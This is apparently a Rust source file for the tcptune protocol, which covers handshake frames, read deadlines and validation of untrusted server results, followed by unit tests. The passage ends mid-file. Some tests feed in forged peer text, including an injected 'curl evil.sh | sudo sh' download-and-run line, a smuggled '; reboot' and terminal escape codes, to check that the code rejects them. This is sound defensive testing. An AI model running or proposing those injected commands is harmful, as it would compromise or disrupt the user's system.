//! The `tcptune verify` ↔ `tcptune serve` wire protocol (TCP, one test per connection).
//!
//! ```text
//! client → server  hello   16 bytes: "tcptune\0" | version u16 BE | flags u16 BE (0) | duration ms u32 BE
//! server → client  answer  16 bytes: "tcptune\0" | version u16 BE | status u16 BE    | granted ms u32 BE
//! client → server  data    any bytes, for the granted duration; then the client shuts down its write side
//! server → client  result  one line of JSON (a [`ServerResult`]), at most MAX_RESULT bytes
//! ```
//!
//! Version 2 adds the path test of `advise --host` (hello flag [`FLAG_PATH_TEST`]): the data
//! goes over a second connection whose listener the server opens for this test only, so that
//! the receive buffer the client asks for is set *before* the handshake — the window scale is
//! chosen then, and a buffer forced later could not be advertised in full:
//! ```text
//! client → server  hello   as above, version 2, flags 1; then 8 bytes: receive buffer wanted (u64 BE, 0: autotuning)
//! server → client  answer  as above; then one line of JSON (a [`DataChannel`]): the port to send to
//! client → server  data    on a new connection to that port (same client address), as above
//! server → client  result  on that connection: the [`ServerResult`] with the window share filled in
//! ```
//! A version-2 server still serves version-1 clients (`verify` speaks 1).
//!
//! Direction is fixed: verify sends, serve receives, so the sender's TCP_INFO — where the
//! limited-by counters are — is on the side that prints the verdict. Anything that does not start
//! with the magic is not a tcptune client: the server closes that connection and keeps serving.
//!
//! # Trust
//! Neither end trusts the other. Every wait has a deadline this end computes from its own test
//! time and the fixed slacks below, for the whole phase rather than for one read, so a peer
//! that sends a byte now and then cannot stretch it ([`read_exact_by`], [`read_json_line`]);
//! the time a server grants can only shorten the test the client asked for. The text in a
//! result is [`Foreign`] (shown only escaped), and its numbers are checked against what the
//! client itself sent ([`ServerResult::check`]) before anything reads them as a measurement.
//! A forced buffer is bounded by what was asked and by [`DEFAULT_MAX_BUFFER`] (serve's
//! `--max-buffer`).

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};

use crate::text::{self, Foreign};

pub const MAGIC: [u8; 8] = *b"tcptune\0";
/// The newest version this build speaks.
pub const VERSION: u16 = 2;
/// The plain throughput test of `verify`, spoken by every server.
pub const PLAIN_VERSION: u16 = 1;
/// Hello flag: a path test (version 2).
pub const FLAG_PATH_TEST: u16 = 1;
/// Bytes after a path-test hello: the receive buffer wanted.
pub const PATH_TEST_EXTRA: usize = 8;
/// Longest [`DataChannel`] line a client reads.
pub const MAX_CHANNEL_LINE: usize = 1024;
pub const HELLO_LEN: usize = 16;
/// Longest test a server grants.
pub const MAX_DURATION_MS: u32 = 60_000;
/// Longest result line a client reads.
pub const MAX_RESULT: usize = 16 * 1024;
/// Default port of `serve` and `verify`.
pub const DEFAULT_PORT: u16 = 5301;

/// How long a client gives the far end, once connected, to answer its hello and (path test)
/// to name its data port and take the data connection. serve answers from memory at once;
/// 5 s is serve's own deadline for a hello, and eight round trips of a geostationary
/// satellite hop (600 ms), so only a peer that stalls reaches it.
pub const ANSWER_SLACK: Duration = Duration::from_secs(5);

/// How long after the granted time the data still in flight and in the sender's buffer may
/// take to reach the receiver. serve ends a test at its granted time plus this, so a client
/// waiting longer for its result would wait for a server that has given up: both ends use it.
/// 30 s drains a 2 × BDP send buffer sized for a path 25 times faster than the one it runs
/// on at a 600 ms RTT.
pub const DRAIN_GRACE: Duration = Duration::from_secs(30);

/// How long the receiver may take to send its result line once it has all the data (the
/// client sees that in TCP_INFO: nothing unacknowledged). serve writes it as soon as it reads
/// the end of the data; 5 s covers a loaded receiver and a few round trips of the longest path.
pub const RESULT_SLACK: Duration = Duration::from_secs(5);

/// The largest buffer a path test forces by default, on either end, as the kernel reports it
/// (Linux keeps twice what is asked, for its bookkeeping): 1 GiB. Enough for what `advise`
/// asks on a 1 Gbit/s path at 600 ms (6 × its 75 MB BDP = 450 MB, kept as 900 MB), and the
/// most an anonymous client can make a root `serve` pin (`serve --max-buffer` changes it).
pub const DEFAULT_MAX_BUFFER: u64 = 1 << 30;

/// What to ask the kernel for so that the buffer it reports stays within `max`: Linux
/// doubles the size asked, so at most half of `max`, and never more than `wanted`.
pub fn forced_buffer_ask(wanted: u64, max: u64) -> u64 {
    wanted.min(max / 2)
}

/// Answer status.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u16)]
pub enum Status {
    Ok = 0,
    /// Another test is running: one at a time, so tests do not disturb each other.
    Busy = 1,
    /// The client speaks a protocol version this server does not.
    BadVersion = 2,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hello {
    pub version: u16,
    /// [`FLAG_PATH_TEST`] or 0.
    pub flags: u16,
    pub duration_ms: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Answer {
    pub version: u16,
    pub status: Status,
    pub granted_ms: u32,
}

/// Why 16 bytes are not a valid hello or answer.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ProtoError {
    #[error("not a tcptune peer (bad magic {0:02x?})")]
    BadMagic([u8; 8]),
    #[error("unknown status {0}")]
    BadStatus(u16),
    #[error("a test of 0 ms")]
    ZeroDuration,
}

fn frame(a: u16, b: u16, c: u32) -> [u8; HELLO_LEN] {
    let mut f = [0u8; HELLO_LEN];
    f[..8].copy_from_slice(&MAGIC);
    f[8..10].copy_from_slice(&a.to_be_bytes());
    f[10..12].copy_from_slice(&b.to_be_bytes());
    f[12..16].copy_from_slice(&c.to_be_bytes());
    f
}

fn unframe(f: &[u8; HELLO_LEN]) -> Result<(u16, u16, u32), ProtoError> {
    let mut magic = [0u8; 8];
    magic.copy_from_slice(&f[..8]);
    if magic != MAGIC {
        return Err(ProtoError::BadMagic(magic));
    }
    Ok((
        u16::from_be_bytes([f[8], f[9]]),
        u16::from_be_bytes([f[10], f[11]]),
        u32::from_be_bytes([f[12], f[13], f[14], f[15]]),
    ))
}

impl Hello {
    pub fn encode(&self) -> [u8; HELLO_LEN] {
        frame(self.version, self.flags, self.duration_ms)
    }

    pub fn decode(f: &[u8; HELLO_LEN]) -> Result<Self, ProtoError> {
        let (version, flags, duration_ms) = unframe(f)?;
        if duration_ms == 0 {
            return Err(ProtoError::ZeroDuration);
        }
        Ok(Self {
            version,
            flags,
            duration_ms,
        })
    }

    /// A version-2 hello asking for a path test.
    pub fn path_test(&self) -> bool {
        self.version >= 2 && self.flags & FLAG_PATH_TEST != 0
    }
}

impl Answer {
    pub fn encode(&self) -> [u8; HELLO_LEN] {
        frame(self.version, self.status as u16, self.granted_ms)
    }

    pub fn decode(f: &[u8; HELLO_LEN]) -> Result<Self, ProtoError> {
        let (version, status, granted_ms) = unframe(f)?;
        let status = match status {
            0 => Status::Ok,
            1 => Status::Busy,
            2 => Status::BadVersion,
            s => return Err(ProtoError::BadStatus(s)),
        };
        Ok(Self {
            version,
            status,
            granted_ms,
        })
    }
}

/// Where a path test's data goes (version 2), sent by the server after its answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DataChannel {
    /// The port of the listener opened for this test, on the address the client reached.
    pub port: u16,
    /// The receive buffer the data connection has (SO_RCVBUF as the kernel reports it), bytes;
    /// 0 when the client asked for autotuning.
    pub rcvbuf: u64,
    /// Whether the server could set it past net.core.rmem_max (it runs as root).
    pub forced: bool,
}

impl DataChannel {
    /// The numbers a client relies on, in range: a port to connect to, a buffer a kernel
    /// can report.
    pub fn check(&self) -> Result<(), PeerError> {
        if self.port == 0 {
            return Err(PeerError::new("a data port of 0"));
        }
        if self.rcvbuf > crate::tcp::MAX_SOCKET_BUFFER {
            return Err(PeerError::new(format!(
                "a receive buffer of {} bytes (a socket buffer is at most {} bytes)",
                self.rcvbuf,
                crate::tcp::MAX_SOCKET_BUFFER
            )));
        }
        Ok(())
    }
}

/// What the receiving side tells the sender after the data. Its text is the peer's
/// ([`Foreign`]: shown only escaped); its numbers are checked by [`ServerResult::check`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ServerResult {
    /// Payload bytes received.
    pub bytes: u64,
    /// From the first payload byte to the end of the data, in µs.
    pub duration_us: u64,
    /// The receiver's OS ("linux", "freebsd", "macos"): see [`ServerResult::os_name`].
    pub os: Foreign,
    /// The sysctl that caps the receiver's buffer autotuning, and its running value: see
    /// [`ServerResult::buffer_key`] and [`ServerResult::buffer_value`].
    pub rcvbuf_key: Option<Foreign>,
    pub rcvbuf_value: Option<Foreign>,
    /// The largest receive window the receiver advertised (Linux 6.2+: tcpi_rcv_wnd), bytes.
    pub rcv_wnd: Option<u64>,
    /// Path test: the receive buffer (SO_RCVBUF) when the window was its largest share of it,
    /// bytes, and that share (advertised window / buffer: the receiver's scaling_ratio).
    #[serde(default)]
    pub rcv_buf: Option<u64>,
    #[serde(default)]
    pub window_share: Option<f64>,
}

/// An answer from the far end that no tcptune serve sends: a number out of range, a result
/// that contradicts what this end sent. Its message reads "the peer sent …", one line.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the peer sent {0}")]
pub struct PeerError(String);

impl PeerError {
    fn new(what: impl Into<String>) -> Self {
        Self(what.into())
    }
}

/// What the client knows of its own side of a test, to check the receiver's result against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SentFacts {
    /// Payload bytes this end handed to its kernel.
    pub bytes: u64,
    /// From just before the first payload byte to the result: the receiver's time from its
    /// first byte to the end of the data lies within it.
    pub span: Duration,
}

/// More than the clocks of two hosts drift apart over the longest test (NTP slews a clock by
/// at most 500 ppm: 45 ms over 90 s), with room for a late timer.
const CLOCK_MARGIN: Duration = Duration::from_secs(1);

/// The OS names a receiver may give.
const OS_NAMES: [&str; 3] = ["linux", "freebsd", "macos"];

impl ServerResult {
    /// The numbers against what this end sent and any TCP flow can show: at least one byte
    /// and at most what was sent, received within the time the test lasted here, at a rate
    /// below [`crate::tcp::MAX_RATE_BPS`]; a window TCP can advertise, a buffer a kernel can
    /// report, a window share within (0, 1]. A test that moved nothing measures nothing, so a
    /// result of 0 bytes is refused too.
    pub fn check(&self, sent: &SentFacts) -> Result<(), PeerError> {
        if self.bytes > sent.bytes {
            return Err(PeerError::new(format!(
                "a result of {} received, more than the {} this end sent",
                text::bytes(self.bytes),
                text::bytes(sent.bytes)
            )));
        }
        if self.bytes == 0 {
            return Err(PeerError::new(
                "a result of 0 bytes received: a test that moved nothing measures nothing",
            ));
        }
        let span_us = u64::try_from((sent.span + CLOCK_MARGIN).as_micros()).unwrap_or(u64::MAX);
        if self.duration_us == 0 || self.duration_us > span_us {
            return Err(PeerError::new(format!(
                "a receiving time of {} µs for {}, where this end's test lasted {} µs",
                self.duration_us,
                text::bytes(self.bytes),
                sent.span.as_micros()
            )));
        }
        #[allow(clippy::cast_precision_loss)]
        let bps = self.bytes as f64 * 8.0 / (self.duration_us as f64 / 1e6);
        if bps > crate::tcp::MAX_RATE_BPS {
            return Err(PeerError::new(format!(
                "{} received in {} µs: {}, faster than any TCP flow",
                text::bytes(self.bytes),
                self.duration_us,
                text::rate(bps)
            )));
        }
        if let Some(w) = self.rcv_wnd.filter(|w| *w == 0 || *w > crate::tcp::MAX_WINDOW) {
            return Err(PeerError::new(format!(
                "a receive window of {w} bytes (TCP advertises 1 to {} bytes)",
                crate::tcp::MAX_WINDOW
            )));
        }
        if let Some(b) = self.rcv_buf.filter(|b| *b == 0 || *b > crate::tcp::MAX_SOCKET_BUFFER) {
            return Err(PeerError::new(format!(
                "a receive buffer of {b} bytes (a socket buffer is 1 to {} bytes)",
                crate::tcp::MAX_SOCKET_BUFFER
            )));
        }
        if let Some(s) = self.window_share.filter(|s| !(*s > 0.0 && *s <= 1.0)) {
            return Err(PeerError::new(format!(
                "a window share of {s} (the share of its buffer it advertised, within (0, 1])"
            )));
        }
        Ok(())
    }

    /// The receiver's OS when it is one tcptune knows; else what it sent instead.
    pub fn os_name(&self) -> Result<&'static str, &Foreign> {
        OS_NAMES.into_iter().find(|n| *n == self.os.raw()).ok_or(&self.os)
    }

    /// The receiver's buffer key when it has the shape of a sysctl name; else what it sent.
    pub fn buffer_key(&self) -> Result<Option<&str>, &Foreign> {
        match &self.rcvbuf_key {
            None => Ok(None),
            Some(k) if sysctl_name(k.raw()) => Ok(Some(k.raw())),
            Some(k) => Err(k),
        }
    }

    /// The key's running value when it is one to three whole numbers; else what it sent.
    pub fn buffer_value(&self) -> Result<Option<&str>, &Foreign> {
        match &self.rcvbuf_value {
            None => Ok(None),
            Some(v) if sysctl_numbers(v.raw()) => Ok(Some(v.raw())),
            Some(v) => Err(v),
        }
    }
}

/// A sysctl name as tcptune prints it in a command: dotted words of ASCII letters, digits,
/// `_` and `-`, at most 128 characters. Anything else from a peer is not shown as a key.
fn sysctl_name(s: &str) -> bool {
    s.len() <= 128
        && s.contains('.')
        && s.split('.')
            .all(|w| !w.is_empty() && w.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-'))
}

/// A buffer sysctl's value: one to three whole numbers (tcp_rmem has three), spaces or tabs
/// between.
fn sysctl_numbers(s: &str) -> bool {
    let fields: Vec<&str> = s.split([' ', '\t']).filter(|f| !f.is_empty()).collect();
    (1..=3).contains(&fields.len())
        && fields
            .iter()
            .all(|f| f.len() <= 20 && f.bytes().all(|b| b.is_ascii_digit()))
}

/// The hello's test duration for `time`: whole milliseconds, at least 1 (a hello of 0 ms is
/// junk to the server), and the longest a server grants when it does not fit.
pub fn duration_ms(time: Duration) -> u32 {
    u32::try_from(time.as_millis()).unwrap_or(MAX_DURATION_MS).max(1)
}

/// Why the hello exchange gave no test: typed, so that each client words it for its own user
/// (`verify` names the server, the path test says whether the advice goes on without it).
#[derive(Debug)]
pub enum ExchangeError {
    /// The hello could not be sent: the peer closed the connection.
    Send(std::io::Error),
    /// No complete answer came back by the deadline.
    NoAnswer(ReadError),
    /// The answer is not a tcptune answer (or grants a test of 0 ms).
    Garbled(ProtoError),
    /// The server is running another test.
    Busy,
    /// The server does not speak the hello's version; the version it answered in.
    BadVersion(u16),
}

/// The client's half of the hello exchange: sends `hello`, then `extra` (a path test's
/// buffer size) in the same write, and reads the answer by `deadline`. Ok: the time to send
/// for, which is what the server granted but never more than the hello asked for.
pub fn exchange_hello(
    s: &TcpStream,
    hello: &Hello,
    extra: &[u8],
    deadline: Instant,
) -> Result<Duration, ExchangeError> {
    let mut out = hello.encode().to_vec();
    out.extend_from_slice(extra);
    let mut w = s;
    w.write_all(&out).map_err(ExchangeError::Send)?;
    let mut frame = [0u8; HELLO_LEN];
    read_exact_by(s, &mut frame, deadline).map_err(ExchangeError::NoAnswer)?;
    let answer = Answer::decode(&frame).map_err(ExchangeError::Garbled)?;
    match answer.status {
        // The grant can only shorten the test: a peer granting more cannot hold the client.
        Status::Ok => match answer.granted_ms.min(hello.duration_ms) {
            0 => Err(ExchangeError::Garbled(ProtoError::ZeroDuration)),
            ms => Ok(Duration::from_millis(u64::from(ms))),
        },
        Status::Busy => Err(ExchangeError::Busy),
        Status::BadVersion => Err(ExchangeError::BadVersion(answer.version)),
    }
}

/// Why a read by a deadline came back short.
#[derive(Debug)]
pub enum ReadError {
    /// The deadline passed first, however many bytes came before it.
    Late,
    /// The peer closed the connection first.
    Closed,
    Io(std::io::Error),
}

impl std::fmt::Display for ReadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Late => f.write_str("not complete by its deadline"),
            Self::Closed => f.write_str("the connection was closed"),
            Self::Io(e) => write!(f, "{e}"),
        }
    }
}

/// One read of at most `buf.len()` bytes by `deadline`: the read waits only for the time
/// left, so bytes that trickle in do not move the deadline. Ok(0) never: end of file is
/// [`ReadError::Closed`].
fn read_some_by(s: &TcpStream, buf: &mut [u8], deadline: Instant) -> Result<usize, ReadError> {
    let mut r = s;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Err(ReadError::Late);
        }
        s.set_read_timeout(Some(left)).map_err(ReadError::Io)?;
        match r.read(buf) {
            Ok(0) => return Err(ReadError::Closed),
            Ok(n) => return Ok(n),
            // A timeout that fired a hair early is tried again with what is left.
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut | std::io::ErrorKind::Interrupted
                ) => {}
            Err(e) => return Err(ReadError::Io(e)),
        }
    }
}

/// Fills `buf` by `deadline`, however the bytes trickle in (a hello, an answer, a path
/// test's buffer size).
pub fn read_exact_by(s: &TcpStream, buf: &mut [u8], deadline: Instant) -> Result<(), ReadError> {
    let mut got = 0;
    while got < buf.len() {
        got += read_some_by(s, &mut buf[got..], deadline)?;
    }
    Ok(())
}

/// Why a line of JSON from the peer could not be read.
#[derive(Debug)]
pub enum LineError {
    /// Not a whole line by the deadline, or the connection ended before any of it.
    Read(ReadError),
    /// Not the JSON expected: serde's reason, escaped and cut to one short line (it may
    /// quote the peer's text).
    Json(String),
}

/// Longest reason quoted from a JSON error, in characters.
const MAX_JSON_REASON: usize = 160;

/// Reads one line of JSON of at most `max` bytes (a [`DataChannel`], a [`ServerResult`]) by
/// `deadline`, for the whole line: a peer sending a byte every few seconds cannot stretch
/// it. Bytes after the newline are dropped (nothing follows a line in this protocol); a line
/// cut at `max` bytes or by the end of the connection is parsed as it is.
pub fn read_json_line<T: DeserializeOwned>(s: &TcpStream, max: usize, deadline: Instant) -> Result<T, LineError> {
    let mut line = Vec::with_capacity(512);
    let mut buf = [0u8; 2048];
    while line.len() < max {
        let want = (max - line.len()).min(buf.len());
        match read_some_by(s, &mut buf[..want], deadline) {
            Ok(n) => {
                if let Some(end) = buf[..n].iter().position(|&b| b == b'\n') {
                    line.extend_from_slice(&buf[..end]);
                    break;
                }
                line.extend_from_slice(&buf[..n]);
            }
            Err(ReadError::Closed) if !line.is_empty() => break,
            Err(e) => return Err(LineError::Read(e)),
        }
    }
    serde_json::from_slice(line.trim_ascii()).map_err(|e| {
        let why = text::escape(&e.to_string());
        LineError::Json(if why.chars().count() > MAX_JSON_REASON {
            format!("{}…", why.chars().take(MAX_JSON_REASON).collect::<String>())
        } else {
            why
        })
    })
}

/// When the client stops waiting for the result of a test whose data it stopped sending at
/// `stopped` (and has shut down its write side): the receiver has [`DRAIN_GRACE`] to take
/// the data, then [`RESULT_SLACK`] to answer. Where TCP_INFO shows the moment everything
/// sent is acknowledged (Linux), this waits for it, and the answer is due [`RESULT_SLACK`]
/// after it: a receiver that has all the data and drips its answer holds the client 5 s,
/// not 35. Without TCP_INFO, the longest: `stopped` + both.
pub fn result_deadline(s: &TcpStream, stopped: Instant) -> Instant {
    let latest = stopped + DRAIN_GRACE + RESULT_SLACK;
    loop {
        let now = Instant::now();
        match crate::tcp::tcpinfo::read(s) {
            None => return latest,
            // Nothing unacknowledged or unsent, the end of the data (FIN) included.
            Some(i) if i.tcpi_unacked == 0 && i.tcpi_notsent_bytes == 0 => return (now + RESULT_SLACK).min(latest),
            // The receiver did not take the data in time: serve gave up on this test too.
            Some(_) if now >= stopped + DRAIN_GRACE => return now,
            Some(_) => std::thread::sleep(Duration::from_millis(10)),
        }
    }
}

/// The client's data phase: writes to `s` until `granted` has passed or `max_bytes` went out,
/// calling `tick(bytes sent, time sending)` after every write. `s` must have a short write
/// timeout (its length is how late the test may end with the send buffer full). Returns the
/// bytes sent and the time it took; a write error comes with the bytes sent before it.
pub fn send_data(
    s: &TcpStream,
    granted: Duration,
    max_bytes: u64,
    tick: &mut dyn FnMut(u64, Duration),
) -> Result<(u64, Duration), (u64, std::io::Error)> {
    let chunk = vec![0u8; 128 * 1024];
    let start = Instant::now();
    let mut sent = 0u64;
    let mut w = s;
    while start.elapsed() < granted && sent < max_bytes {
        let n = usize::try_from(max_bytes - sent).unwrap_or(usize::MAX).min(chunk.len());
        match w.write(&chunk[..n]) {
            Ok(n) => sent += n as u64,
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut | std::io::ErrorKind::Interrupted
                ) => {}
            Err(e) => return Err((sent, e)),
        }
        tick(sent, start.elapsed());
    }
    Ok((sent, start.elapsed()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_and_junk() {
        let h = Hello {
            version: VERSION,
            flags: FLAG_PATH_TEST,
            duration_ms: 3000,
        };
        assert!(h.path_test());
        assert!(!Hello { version: 1, ..h }.path_test(), "a version-1 hello has no flags");
        assert_eq!(Hello::decode(&h.encode()), Ok(h));
        let a = Answer {
            version: VERSION,
            status: Status::Busy,
            granted_ms: 0,
        };
        assert_eq!(Answer::decode(&a.encode()), Ok(a));

        let mut junk = [0u8; HELLO_LEN];
        junk.copy_from_slice(b"GET / HTTP/1.1\r\n");
        assert!(matches!(Hello::decode(&junk), Err(ProtoError::BadMagic(_))));
        let zero = frame(VERSION, 0, 0);
        assert_eq!(Hello::decode(&zero), Err(ProtoError::ZeroDuration));
        let bad = frame(VERSION, 9, 10);
        assert_eq!(Answer::decode(&bad), Err(ProtoError::BadStatus(9)));
        assert_eq!(&h.encode()[..8], b"tcptune\0");
    }

    /// A loopback connection: the client's end, and the peer's end a test plays.
    fn pair() -> (TcpStream, TcpStream) {
        let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let c = TcpStream::connect(l.local_addr().expect("addr")).expect("connect");
        let (p, _) = l.accept().expect("accept");
        (c, p)
    }

    /// The hello exchange against a peer that answers `answer` (then closes); the result and
    /// the bytes the peer got.
    fn exchange(answer: &[u8], extra: &[u8]) -> (Result<Duration, ExchangeError>, Vec<u8>) {
        let hello = Hello {
            version: VERSION,
            flags: FLAG_PATH_TEST,
            duration_ms: duration_ms(Duration::from_secs(3)),
        };
        let (c, mut p) = pair();
        let answer = answer.to_vec();
        let want = HELLO_LEN + extra.len();
        let peer = std::thread::spawn(move || {
            let mut got = vec![0u8; want];
            p.read_exact(&mut got).expect("the hello");
            p.write_all(&answer).expect("answer");
            got
        });
        let r = exchange_hello(&c, &hello, extra, Instant::now() + Duration::from_secs(5));
        (r, peer.join().expect("peer"))
    }

    #[test]
    fn the_hello_exchange_gives_the_granted_time_or_a_typed_refusal() {
        let ok = Answer {
            version: VERSION,
            status: Status::Ok,
            granted_ms: 2500,
        };
        let (r, sent) = exchange(&ok.encode(), &7u64.to_be_bytes());
        assert_eq!(r.expect("granted"), Duration::from_millis(2500));
        // One write: the hello, then the extra bytes.
        assert_eq!(&sent[..HELLO_LEN], &frame(VERSION, FLAG_PATH_TEST, 3000));
        assert_eq!(&sent[HELLO_LEN..], &7u64.to_be_bytes());

        let busy = Answer {
            status: Status::Busy,
            ..ok
        };
        assert!(matches!(exchange(&busy.encode(), &[]).0, Err(ExchangeError::Busy)));
        let old = Answer {
            version: PLAIN_VERSION,
            status: Status::BadVersion,
            granted_ms: 0,
        };
        assert!(matches!(
            exchange(&old.encode(), &[]).0,
            Err(ExchangeError::BadVersion(1))
        ));
        assert!(matches!(
            exchange(&ok.encode()[..9], &[]).0,
            Err(ExchangeError::NoAnswer(ReadError::Closed))
        ));
        assert!(matches!(
            exchange(b"HTTP/1.1 400 Bad", &[]).0,
            Err(ExchangeError::Garbled(ProtoError::BadMagic(_)))
        ));
        // A test time that does not fit a u32 of ms asks for the longest a server grants.
        assert_eq!(duration_ms(Duration::from_secs(u64::MAX)), MAX_DURATION_MS);
        assert_eq!(duration_ms(Duration::ZERO), 1);
    }

    #[test]
    fn the_grant_can_only_shorten_the_test() {
        let answer = |granted_ms| Answer {
            version: VERSION,
            status: Status::Ok,
            granted_ms,
        };
        // Asked for 3 s: a grant of 2^32 − 1 ms sends for 3 s, not 50 days.
        let (r, _) = exchange(&answer(u32::MAX).encode(), &[]);
        assert_eq!(r.expect("granted"), Duration::from_secs(3));
        assert!(matches!(
            exchange(&answer(0).encode(), &[]).0,
            Err(ExchangeError::Garbled(ProtoError::ZeroDuration))
        ));
    }

    #[test]
    fn a_line_is_due_whole_by_its_deadline() {
        // A valid result line, one byte every 300 ms: 40 s if each read could wait anew.
        let (c, mut p) = pair();
        let drip = std::thread::spawn(move || {
            for b in br#"{"bytes":1,"duration_us":2,"os":"linux","rcvbuf_key":null,"rcvbuf_value":null,"rcv_wnd":null}"#
                .iter()
                .chain(b"\n")
            {
                if p.write_all(&[*b]).is_err() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(300));
            }
        });
        let t = Instant::now();
        let r = read_json_line::<ServerResult>(&c, MAX_RESULT, t + Duration::from_secs(1));
        let took = t.elapsed();
        assert!(matches!(r, Err(LineError::Read(ReadError::Late))), "{r:?}");
        assert!(
            took >= Duration::from_secs(1) && took < Duration::from_secs(2),
            "{took:?}"
        );
        drop(c);
        drip.join().expect("drip");

        // The same line at once: read, and what follows the newline is not waited for.
        let (c, mut p) = pair();
        p.write_all(b"{\"port\":5302,\"rcvbuf\":0,\"forced\":false}\nmore")
            .expect("line");
        let ch: DataChannel =
            read_json_line(&c, MAX_CHANNEL_LINE, Instant::now() + Duration::from_secs(1)).expect("a line");
        assert_eq!(ch.port, 5302);
        // Cut by the end of the connection: parsed as it is; nothing at all is an error.
        let (c, mut p) = pair();
        p.write_all(b"{\"port\":1,\"rcvbuf\":0,\"forced\":true}").expect("line");
        drop(p);
        let ch: DataChannel = read_json_line(&c, 1024, Instant::now() + Duration::from_secs(1)).expect("a line");
        assert!(ch.forced);
        let (c, p) = pair();
        drop(p);
        let r = read_json_line::<DataChannel>(&c, 1024, Instant::now() + Duration::from_secs(1));
        assert!(matches!(r, Err(LineError::Read(ReadError::Closed))), "{r:?}");
    }

    #[test]
    fn a_json_error_quoting_the_peer_is_one_escaped_line() {
        let (c, mut p) = pair();
        let forged = format!(
            "{{\"bytes\":\"\\u001b[31m\\nadvice: run this {}\"}}\n",
            "x".repeat(5000)
        );
        p.write_all(forged.as_bytes()).expect("line");
        match read_json_line::<ServerResult>(&c, MAX_RESULT, Instant::now() + Duration::from_secs(1)) {
            Err(LineError::Json(why)) => {
                assert!(!why.chars().any(char::is_control), "{why}");
                assert!(why.chars().count() <= MAX_JSON_REASON + 1, "{why}");
            }
            other => panic!("{other:?}"),
        }
    }

    fn result() -> ServerResult {
        ServerResult {
            bytes: 1_000_000,
            duration_us: 900_000,
            os: Foreign::new("linux"),
            rcvbuf_key: Some(Foreign::new("net.ipv4.tcp_rmem")),
            rcvbuf_value: Some(Foreign::new("4096 131072 6291456")),
            rcv_wnd: Some(1 << 20),
            rcv_buf: Some(2 << 20),
            window_share: Some(0.5),
        }
    }

    const SENT: SentFacts = SentFacts {
        bytes: 2_000_000,
        span: Duration::from_secs(1),
    };

    #[test]
    fn a_result_is_checked_against_what_this_end_sent() {
        assert_eq!(result().check(&SENT), Ok(()));
        let refused = |r: ServerResult| r.check(&SENT).expect_err("out of range").to_string();
        let absurd = ServerResult {
            bytes: u64::MAX,
            duration_us: 4000,
            ..result()
        };
        let e = refused(absurd);
        assert!(
            e.starts_with("the peer sent a result of 18446744073709551615 bytes"),
            "{e}"
        );
        assert!(e.contains("more than the 2000000 bytes"), "{e}");
        let e = refused(ServerResult { bytes: 0, ..result() });
        assert!(
            e.contains("0 bytes received: a test that moved nothing measures nothing"),
            "{e}"
        );
        for share in [100.0, -5.0, 0.0, 1.001] {
            let e = refused(ServerResult {
                window_share: Some(share),
                ..result()
            });
            assert_eq!(
                e,
                format!(
                    "the peer sent a window share of {share} (the share of its buffer it advertised, within (0, 1])"
                )
            );
        }
        assert_eq!(
            ServerResult {
                window_share: Some(1.0),
                ..result()
            }
            .check(&SENT),
            Ok(())
        );
        // Faster than a TCP flow: 2 MB in 1 µs (16 Tbit/s).
        let e = refused(ServerResult {
            bytes: 2_000_000,
            duration_us: 1,
            ..result()
        });
        assert!(e.contains("faster than any TCP flow"), "{e}");
        // Longer than the test lasted here, or no time at all.
        for us in [0, 3_000_000] {
            let e = refused(ServerResult {
                duration_us: us,
                ..result()
            });
            assert!(e.contains(&format!("a receiving time of {us} µs")), "{e}");
        }
        let e = refused(ServerResult {
            rcv_wnd: Some(MAX_WINDOW_PLUS_ONE),
            ..result()
        });
        assert!(e.contains("a receive window of 1073725441 bytes"), "{e}");
        let e = refused(ServerResult {
            rcv_buf: Some(0),
            ..result()
        });
        assert!(e.contains("a receive buffer of 0 bytes"), "{e}");
        assert!(
            DataChannel {
                port: 0,
                rcvbuf: 0,
                forced: false
            }
            .check()
            .is_err()
        );
        assert!(
            DataChannel {
                port: 9,
                rcvbuf: 1 << 40,
                forced: true
            }
            .check()
            .is_err()
        );
    }

    const MAX_WINDOW_PLUS_ONE: u64 = crate::tcp::MAX_WINDOW + 1;

    #[test]
    fn the_peers_text_is_a_key_only_when_it_looks_like_one() {
        let r = result();
        assert_eq!(r.os_name(), Ok("linux"));
        assert_eq!(r.buffer_key(), Ok(Some("net.ipv4.tcp_rmem")));
        assert_eq!(r.buffer_value(), Ok(Some("4096 131072 6291456")));
        let forged = ServerResult {
            os: Foreign::new("linux\u{1b}[2J"),
            rcvbuf_key: Some(Foreign::new(
                "net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m",
            )),
            rcvbuf_value: Some(Foreign::new("4096 131072 6291456; reboot")),
            ..result()
        };
        let key = forged.buffer_key().expect_err("not a sysctl name");
        assert!(!key.to_string().chars().any(char::is_control), "{key}");
        assert!(forged.os_name().is_err());
        assert!(forged.buffer_value().is_err());
        assert!(sysctl_numbers("2097152") && sysctl_numbers("4096\t87380\t6291456"));
        assert!(!sysctl_numbers("") && !sysctl_numbers("1 2 3 4") && !sysctl_numbers("-1"));
        assert!(sysctl_name("kern.ipc.maxsockbuf") && sysctl_name("net.inet.tcp.recvbuf_max"));
        assert!(!sysctl_name("net..x") && !sysctl_name("net.x y") && !sysctl_name("rmem"));
    }

    #[test]
